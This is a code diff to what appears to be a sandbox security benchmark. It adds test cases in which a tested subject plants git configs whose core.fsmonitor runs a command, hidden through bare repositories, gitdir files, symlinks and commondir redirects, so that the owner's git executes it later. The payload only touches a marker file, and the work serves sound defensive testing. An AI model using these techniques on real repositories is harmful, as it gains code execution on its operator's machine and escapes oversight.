@@ -1,9 +1,11 @@
-"""Repositories that run code, or point out, when git looks at them."""
+"""Repositories that run code, or point out, when git looks at them: the sandbox's, then the owner's."""
 
 from typing import Any
 
-from bench.attacks.attack import CHORE, Attack, shell
+from bench.attacks.attack import CHORE, Attack, _filled, shell
 from bench.attacks.cases.paths import _tool
+from bench.attacks.stage import Stage
+from bench.attacks.subject import Subject
 
 _NEW = "rm -rf r; git init -q -b main r; cd r; echo one > a; git add a; git -c user.name=x -c user.email=x@x commit -q -m one; echo two > a; "
 _TOUCH = "touch {outside}/new.txt"
@@ -12,6 +14,22 @@ _TOUCH = "touch {outside}/new.txt"
 def _git(name: str, tool: str, first: str, **arguments: Any) -> Attack:
     attack = _tool(name, tool, first, **{"repo": "r", **arguments})
     return Attack("git", attack.name, attack.act)
+
+
+_EVIL = "printf '[core]\\nrepositoryformatversion = 0\\nbare = false\\nworktree = .\\nfsmonitor = touch {outside}/new.txt;\\n'"
+_MAKE = f"chmod -f 700 new; rm -rf x new y; git init -q --bare x && {_EVIL} > x/config"
+
+
+def _owner(name: str, repo: str, command: str) -> Attack:
+    """A command in a repository of the host, which the owner's git visits afterwards."""
+
+    async def act(subject: Subject, stage: Stage) -> str:
+        enter = f"cd /repos/{repo} 2>/dev/null || cd {stage.places().get(repo, stage.project)}"
+        said = await subject.run(f"{enter}; {_filled(command, stage)}")
+        stage.owner_looks()
+        return said
+
+    return Attack("git", f"the owner's git in {repo}: {name}", act)
 
 
 ATTACKS = (
@@ -35,5 +53,24 @@ ATTACKS = (
     _git("a path outside", "git_commit", _NEW, message="m", files=["../../../../outside/secret.txt"]),
     _git("a commit to a read-only repository", "git_commit", "true", repo="{repo}", message="m"),
     _git("a mount point through a link (CVE-2026-87766)", "git_status", "rm -rf r; mkdir r; ln -s /oldroot{outside}/made r/.git; ln -sfn /oldroot{outside}/made .git; ln -sfn /oldroot{outside}/made .voltaire"),
+    _owner("settings of its .git", "app", f"{_EVIL} > .git/config"),
+    _owner("a .git moved away", "app", f"mv .git x; git init -q; {_EVIL} > .git/config"),
+    _owner("a bare repository is made", "app", _MAKE),
+    _owner("a repository is made in depth", "app", f"{_MAKE}; mkdir -p new/1/2/3/4/5/6; mv x new/1/2/3/4/5/6/.git"),
+    _owner("it cannot be read", "app", f"{_MAKE}; mkdir new; mv x new/.git; chmod 000 new"),
+    _owner("a file .git to one that is made", "app", f"{_MAKE}; mkdir new; echo gitdir: ../x > new/.git"),
+    _owner("a link .git to one that is made", "app", f"{_MAKE}; mkdir new; ln -s ../x new/.git"),
+    _owner("a file .git into the workspace", "app", f"(cd /workspace && {_MAKE}); mkdir new; echo gitdir: $(grep ' /workspace ' /proc/self/mountinfo | cut -d' ' -f4)/x > new/.git"),
+    _owner("a commondir that is made", "app", f"{_MAKE}; mkdir new; echo ref: refs/heads/x > new/HEAD; echo ../x > new/commondir"),
+    _owner("settings by another name", "app", f"git init -q new; {_EVIL} > y; rm new/.git/config; ln y new/.git/config"),
+    _owner("its settings", "hub", f"{_EVIL} > config"),
+    _owner("its commondir", "hub", f"{_MAKE}; echo x > commondir"),
+    _owner("the .git of its working tree", "hub", f"cd tree; {_MAKE}; rm -f .git; echo gitdir: x > .git"),
+    _owner("a repository in its working tree", "hub", f"cd tree; {_MAKE}"),
+    _owner("its settings", "dot", f"{_EVIL} > .bare/config"),
+    _owner("its git directory moved away", "dot", f"mv .bare x; git init -q --bare .bare; {_EVIL} > .bare/config"),
+    _owner("the file .git", "dot", f"{_MAKE}; rm -f .git; echo gitdir: x > .git"),
+    _owner("settings of a working tree", "dot", f"{_MAKE}; echo ../../../x > .bare/worktrees/tree/commondir"),
+    shell(CHORE, "remove what was made", "cd /repos && chmod -f 700 app/new; rm -rf app/x app/new app/y hub/tree/x dot/x"),
     shell(CHORE, "remove it", "rm -rf r .git .voltaire"),
 )  # fmt: skip
